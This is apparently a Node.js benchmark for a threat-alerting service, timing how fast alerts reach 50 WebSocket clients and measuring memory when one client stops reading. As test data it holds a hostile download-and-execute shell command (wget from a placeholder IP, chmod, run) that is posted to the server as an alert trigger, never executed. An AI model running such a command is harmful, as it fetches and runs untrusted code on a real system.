import { WebSocket } from 'ws'
import { startServer, until } from './server-process.mjs'
import { post } from './traffic.mjs'

const CLIENTS = 50
const ALERTS_PER_SECOND = 100
const SECONDS = Number(process.env.BENCH_FEED_SECONDS ?? 60)
/** Ordinary events that arrive beside those that are worth an alert. */
const OTHER_EVENTS_PER_SECOND = 500
/** Far more than the buffers of two sockets hold. */
const BURST = 30_000
const TICK_MS = 50
const HIGH = 'wget http://192.0.2.1/x; chmod 777 x; ./x'

/** (e) From the receipt of an event to the acknowledgement of its alert by 50 clients, while events are ingested. */
export async function benchLiveFeed() {
  const server = await startServer({
    LOG_LEVEL: 'INFO',
    METRICS_OPEN: 'true',
    WS_MAX_CLIENTS_PER_USER: String(CLIENTS + 2),
  })
  try {
    const token = await server.token()
    const clients = []
    for (let n = 0; n < CLIENTS; n += 1) clients.push(await connect(server.url, token))
    const sent = await fire(server.url)
    await until(async () => clients.every(({ seen }) => seen.size >= sent)).catch(() => {})
    const latencies = clients.flatMap((client) => client.latencies).sort((a, b) => a - b)
    const at = (share) => latencies[Math.ceil(share * latencies.length) - 1]
    const lost = clients.map(({ seen }) => sent - seen.size)
    const duplicated = clients.map((client) => client.received - client.seen.size)
    console.log(
      `(e) ${CLIENTS} clients, ${ALERTS_PER_SECOND} alerts/s and ${OTHER_EVENTS_PER_SECOND} other events/s for ${SECONDS} s`,
    )
    console.log(
      `    receipt of the event to the client: p50 ${at(0.5)} ms, p95 ${at(0.95)} ms (aim < 250), p99 ${at(0.99)} ms, worst ${at(1)} ms`,
    )
    console.log(
      `    to the acknowledgement, by the server's own histogram: p95 <= ${await acknowledgedWithin(server.url, 0.95)} s`,
    )
    console.log(
      `    alerts ${sent}, deliveries ${latencies.length}; lost a client: ${distinct(lost)}; duplicated a client: ${distinct(duplicated)}`,
    )
    for (const { socket } of clients) socket.terminate()
    await stopReading(server, token)
  } finally {
    await server.stop()
  }
}

/** What a client costs that stops reading: the same burst, first with everybody reading, then with one who does not. */
async function stopReading(server, token) {
  const reader = await connect(server.url, token)
  const stalled = await connect(server.url, token)
  const sizes = [server.memory().server]
  for (const stopped of [false, true]) {
    if (stopped) stalled.socket.pause()
    const expected = reader.seen.size + BURST
    for (let sent = 0; sent < BURST; sent += 1000) await post(server.url, burst(1000))
    await until(async () => reader.seen.size >= expected)
    sizes.push(server.memory().server)
  }
  stalled.socket.resume()
  await until(async () => stalled.seen.size >= 2 * BURST)
  console.log(
    `    bursts of ${BURST} alerts: server resident ${sizes.map(Math.round).join(' -> ')} MiB (before, all reading, one stopped)`,
  )
  console.log(
    `    the stopped reader, reading again, has ${stalled.seen.size} of ${2 * BURST}, ${stalled.received - stalled.seen.size} twice`,
  )
  for (const { socket } of [reader, stalled]) socket.terminate()
}

let nextInBurst = 0
function burst(count) {
  return Array.from({ length: count }, () => {
    nextInBurst += 1
    const source_ip = `2001:db8::${nextInBurst.toString(16)}`
    return { source_ip, session: 's', command: HIGH, occurred_at: new Date().toISOString() }
  })
}

async function connect(url, token) {
  const response = await fetch(`${url}/auth/ws-ticket`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
  })
  const { ticket } = await response.json()
  const socket = new WebSocket(`${url.replace('http', 'ws')}/ws/alerts?ticket=${ticket}`)
  const client = { socket, seen: new Set(), received: 0, latencies: [] }
  socket.on('message', (data) => {
    const { event_type, payload } = JSON.parse(data)
    if (event_type !== 'THREAT_ESCALATION') return
    client.received += 1
    client.seen.add(payload.id)
    client.latencies.push(Date.now() - Date.parse(payload.event_received_at))
    socket.send(JSON.stringify({ event_type: 'ACK', payload: { id: payload.id } }))
  })
  await new Promise((resolve, reject) => {
    socket.once('open', resolve)
    socket.once('error', reject)
  })
  return client
}

/** Sends at a steady rate whatever the answers do. @returns how many events were worth an alert. */
async function fire(url) {
  let alerts = 0
  let others = 0
  const answers = []
  const start = performance.now()
  for (let elapsed = 0; elapsed < SECONDS * 1000; elapsed = performance.now() - start) {
    const records = []
    for (; alerts < (elapsed / 1000) * ALERTS_PER_SECOND; alerts += 1) {
      const source_ip = `10.${(alerts >> 16) & 255}.${(alerts >> 8) & 255}.${alerts & 255}`
      records.push({ source_ip, session: 's', command: HIGH, occurred_at: new Date().toISOString() })
    }
    for (; others < (elapsed / 1000) * OTHER_EVENTS_PER_SECOND; others += 1) {
      const source_ip = `198.51.100.${others & 255}`
      records.push({
        source_ip,
        session: others >> 8,
        username: `u${others}`,
        occurred_at: new Date().toISOString(),
      })
    }
    if (records.length > 0) answers.push(post(url, records))
    await new Promise((resolve) => setTimeout(resolve, TICK_MS))
  }
  await Promise.all(answers)
  return alerts
}

/** The upper bound of the bucket that holds the quantile. */
async function acknowledgedWithin(url, share) {
  const text = await (await fetch(`${url}/metrics`)).text()
  const buckets = [
    ...text.matchAll(/eviltwin_alert_delivery_duration_seconds_bucket\{mode="live",le="([^"]+)"\} (\d+)/g),
  ]
  const total = Number(buckets.at(-1)?.[2] ?? 0)
  return buckets.find(([, , count]) => Number(count) >= share * total)?.[1]
}

function distinct(values) {
  return [...new Set(values)].join(', ')
}
